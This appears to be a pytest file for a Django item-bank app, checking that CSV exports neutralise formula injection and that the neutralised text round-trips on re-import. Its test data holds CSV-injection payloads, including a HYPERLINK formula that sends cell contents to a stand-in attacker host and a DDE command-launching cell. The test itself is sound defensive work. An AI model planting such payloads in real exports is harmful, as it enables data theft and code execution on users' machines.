"""An item CSV export opens in a spreadsheet without running a cell, and imports back as it was."""

import csv
import io

import pytest

from hallmark.itembank import transfer
from hallmark.itembank.models import Item
from itembank.test_import import csv_file, row
from itembank.test_round_trip import second_program

pytestmark = pytest.mark.django_db

FORMULAS = {
    "option_a": '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "option_b": "+cmd|' /C calc'!A0",
    "option_c": "-5 hours a week",
    "option_d": "@SUM(1+1)",
    "rationale": "=1+1 is not the point",
    "references": "-- an unsigned note",
}


def test_formula_like_cells_are_quoted_and_come_back_unquoted(program, cast) -> None:
    transfer.import_items(program, csv_file(row(identifier="F-1", **FORMULAS)), "csv", cast.writer)
    data, _ = transfer.export_items(program, "csv", cast.manager)
    exported = next(csv.DictReader(io.StringIO(data.decode())))
    for column, text in FORMULAS.items():
        assert exported[column] == "'" + text, column
    assert exported["identifier"] == "F-1" and exported["key"] == "A"

    other = second_program()
    transfer.import_items(other, data, "csv", cast.manager)
    original = Item.objects.get(program=program).current_version
    copy = Item.objects.get(program=other).current_version
    assert list(copy.options) == list(original.options)
    assert copy.options[0] == FORMULAS["option_a"]
    assert copy.rationale == original.rationale and copy.references == original.references
